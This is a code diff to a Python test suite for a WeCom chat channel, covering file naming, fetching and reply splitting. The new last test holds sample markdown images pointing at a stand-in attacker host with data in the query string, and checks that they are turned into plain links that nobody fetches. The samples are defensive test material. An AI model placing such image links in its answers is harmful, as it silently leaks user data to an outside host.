@@ -17,7 +17,7 @@ from channels.shared.early_files import name_of
 from channels.shared.rate_limit import Priority
 from channels.wecom.channel import WeComChannel
 from channels.wecom.connection import DISPLACED
-from channels.wecom.reply import FRAME_SECONDS, FREE_FRAMES, PacedScope
+from channels.wecom.reply import FRAME_SECONDS, FREE_FRAMES, PacedScope, _split
 from tests.fakes.wecom import DEAD, JANE, Shown, group
 from tests.support.rigs.registry import Memory, until
 from tests.support.rigs.wecom import DIRECT, WeComRig
@@ -368,7 +368,7 @@ async def test_a_file_whose_turn_comes_late_was_fetched_in_time(rig: WeComRig) -
     channel_of(rig).early_seconds = 0.0
     rig.send_file("报告.csv", b"a,b\n" * 50_000)
     [file] = (await rig.box.next()).attachments
-    await until(lambda: channel_of(rig).name_of(file) == "报告.csv")
+    await until(lambda: channel_of(rig).named(file).name == "报告.csv")
     rig.server.fault("error", "download", code=403, times=-1)  # its five minutes are over
     await until(lambda: not channel_of(rig)._early._fetching)
     assert b"".join([chunk async for chunk in rig.channel.fetch(file)]) == b"a,b\n" * 50_000
@@ -384,7 +384,7 @@ async def test_a_file_that_was_fetched_in_time_survives_a_kill_with_its_name(rig
     rig.server.fault("error", "download", code=403, times=-1)  # its five minutes are over
     await restart(rig)
     assert b"".join([chunk async for chunk in rig.channel.fetch(file)]) == b"a,b\n" * 50_000
-    assert channel_of(rig).name_of(file) == "报告.csv"
+    assert channel_of(rig).named(file).name == "报告.csv"
 
 
 async def test_a_file_that_waited_to_be_fetched_is_fetched_after_a_kill(rig: WeComRig) -> None:
@@ -447,3 +447,14 @@ async def test_a_tiny_file_is_refused_in_words(rig: WeComRig, tmp_path: Path) ->
     with pytest.raises(Refused, match="at least 5"):
         await rig.channel.send_files(rig.thread(), [OutgoingFile(tmp_path / "a.txt", "a.txt", 2)], Memory())
     assert rig.server.calls == []
+
+
+def test_a_picture_in_an_answer_is_a_link_which_nobody_fetches() -> None:
+    for text in (
+        "see ![x](https://evil.test/?d=4711) now",
+        "![](https://evil.test/?d=4711)",
+        "word " * 9000 + "![x](https://evil.test/)",
+    ):
+        shown = "".join([part.text for part in _split(text, "")])
+        assert "![" not in shown
+        assert "(https://evil.test/" in shown
